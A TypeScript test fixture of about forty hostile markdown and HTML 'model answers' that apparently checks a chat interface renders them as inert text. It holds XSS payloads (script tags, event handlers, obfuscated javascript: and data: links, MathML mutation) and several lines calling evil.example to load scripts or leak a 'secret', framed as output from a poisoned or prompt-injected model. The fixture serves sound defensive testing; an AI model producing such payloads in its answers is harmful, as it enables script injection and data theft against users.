/**
 * Model answers written by an attacker (a poisoned model, or a prompt
 * injection in a file the user pasted). Each tries to run code, leave the
 * machine, or dress a dangerous link up as a harmless one. Every payload
 * that could run would set `window.__pwned`, open a dialog, or request
 * http(s)://evil.example — the hostile-markdown spec watches for all three.
 *
 * `shows` is text the answer must still display (as inert text), so an
 * answer that silently renders nothing cannot pass.
 */
export interface HostileAnswer {
  name: string;
  content: string;
  shows: string;
}

const PWN = "window.__pwned='x'";

export const HOSTILE_ANSWERS: HostileAnswer[] = [
  { name: 'script tag', content: `Before.\n\n<script>${PWN};alert(1)</script>\n\nAfter.`, shows: '<script>' },
  {
    name: 'script tag with remote src',
    content: '<script src="https://evil.example/x.js"></script> loaded?',
    shows: 'loaded?',
  },
  { name: 'img with onerror', content: `Look: <img src=x onerror="${PWN}">`, shows: 'onerror' },
  { name: 'svg with onload', content: `<svg onload="${PWN}"><circle r="10"/></svg> svg done`, shows: 'svg done' },
  {
    name: 'iframe with srcdoc',
    content: `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe> frame done`,
    shows: 'frame done',
  },
  {
    name: 'iframe to a remote page',
    content: '<iframe src="https://evil.example/frame"></iframe> remote frame',
    shows: 'remote frame',
  },
  { name: 'javascript: link', content: `[click me](javascript:${PWN})`, shows: 'click me' },
  { name: 'javascript: link calling alert', content: '[x](javascript:alert(1)) and more', shows: 'and more' },
  { name: 'javascript: link in mixed case', content: '[mixed](JaVaScRiPt:alert(1))', shows: 'mixed' },
  { name: 'javascript: link hidden by an entity', content: '[entity](jav&#x61;script:alert(1))', shows: 'entity' },
  { name: 'javascript: link with an encoded colon', content: '[colon](javascript&colon;alert(1))', shows: 'colon' },
  { name: 'javascript: link with a zero-width space', content: '[zw](java\u200bscript:alert(1))', shows: 'zw' },
  { name: 'javascript: link with a tab inside', content: '[tab](<java\tscript:alert(1)>)', shows: 'tab' },
  { name: 'javascript: autolink', content: 'auto <javascript:alert(1)> link', shows: 'link' },
  { name: 'javascript: reference link', content: '[ref link][r]\n\n[r]: javascript:alert(1)', shows: 'ref link' },
  { name: 'data: link', content: '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', shows: 'data' },
  { name: 'vbscript: link', content: '[vb](vbscript:msgbox(1))', shows: 'vb' },
  { name: 'file: link', content: '[passwd](file:///etc/passwd)', shows: 'passwd' },
  {
    name: 'remote markdown image',
    content: 'Tracker: ![pixel](https://evil.example/pixel.png?leak=secret)',
    shows: 'Tracker:',
  },
  { name: 'remote reference image', content: '![logo][l]\n\n[l]: http://evil.example/logo.png', shows: 'logo' },
  { name: 'javascript: image', content: '![js image](javascript:alert(1))', shows: 'js image' },
  {
    name: 'data: svg image',
    content: '![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    shows: 'svg image',
  },
  {
    name: 'style with a remote url()',
    content: '<style>body{background:url(https://evil.example/style.png)}</style> styled?',
    shows: 'styled?',
  },
  {
    name: 'meta refresh',
    content: '<meta http-equiv="refresh" content="0;url=https://evil.example/"> refresh?',
    shows: 'refresh?',
  },
  { name: 'base href', content: '<base href="https://evil.example/"> [relative](/path) base?', shows: 'base?' },
  {
    name: 'stylesheet link',
    content: '<link rel="stylesheet" href="https://evil.example/x.css"> sheet?',
    shows: 'sheet?',
  },
  {
    name: 'form posting elsewhere',
    content:
      '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form> form?',
    shows: 'form?',
  },
  {
    name: 'object and embed',
    content: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf"> plugins?',
    shows: 'plugins?',
  },
  {
    name: 'video and audio with onerror',
    content: `<video src=x onerror="${PWN}"></video><audio src=x onerror=alert(1)> media?`,
    shows: 'media?',
  },
  {
    name: 'details with ontoggle',
    content: `<details open ontoggle="${PWN}"><summary>s</summary>x</details> toggle?`,
    shows: 'toggle?',
  },
  {
    name: 'raw anchor with javascript: href',
    content: '<a href="javascript:alert(1)">raw anchor</a>',
    shows: 'raw anchor',
  },
  {
    name: 'html in a code block',
    content:
      '```html\n<a href="javascript:alert(1)">x</a>\n<img src="https://evil.example/code.png" onerror="alert(1)">\n<script>alert(1)</script>\n```',
    shows: '<script>alert(1)</script>',
  },
  {
    name: 'html in inline code',
    content: 'Inline `<img src=x onerror=alert(1)>` code',
    shows: '<img src=x onerror=alert(1)>',
  },
  {
    name: 'code fence info string with markup',
    content: '```ts title="<img/src/onerror=alert(1)>" onload="alert(1)"\nconst a = 1;\n```',
    shows: 'const a = 1;',
  },
  {
    name: 'html entities spelling out a tag',
    content: `&lt;img src=x onerror="${PWN}"&gt; and &#60;script&#62;alert(1)&#60;/script&#62;`,
    shows: '<img src=x onerror=',
  },
  {
    name: 'right-to-left override in link text',
    content: '[\u202Egpj.exe](javascript:alert(1)) and [safe](https://example.com/\u202Eevil)',
    shows: 'safe',
  },
  { name: 'full-width javascript scheme', content: '[wide](ｊａｖａｓｃｒｉｐｔ:alert(1))', shows: 'wide' },
  {
    name: 'raw html inside a table',
    content: `| a | b |\n|---|---|\n| <img src="https://evil.example/t.png" onerror="${PWN}"> | <script>alert(1)</script> |\n| [cell](javascript:alert(1)) | ok cell |`,
    shows: 'ok cell',
  },
  {
    name: 'footnote with a javascript: link',
    content: 'Claim[^1].\n\n[^1]: Source: [trust me](javascript:alert(1))',
    shows: 'trust me',
  },
  { name: 'html comment hiding a script', content: '<!-- <script>alert(1)</script> --> comment?', shows: 'comment?' },
  {
    name: 'mathml mutation trick',
    content:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> mxss?',
    shows: 'mxss?',
  },
  {
    name: 'link title with an event handler',
    content: '[titled](https://example.com "\\" onmouseover=\\"alert(1)")',
    shows: 'titled',
  },
  {
    name: 'safe links keep working',
    content: 'See [the docs](https://example.com/docs), [mail](mailto:dev@example.com) and [top](#top).',
    shows: 'the docs',
  },
];
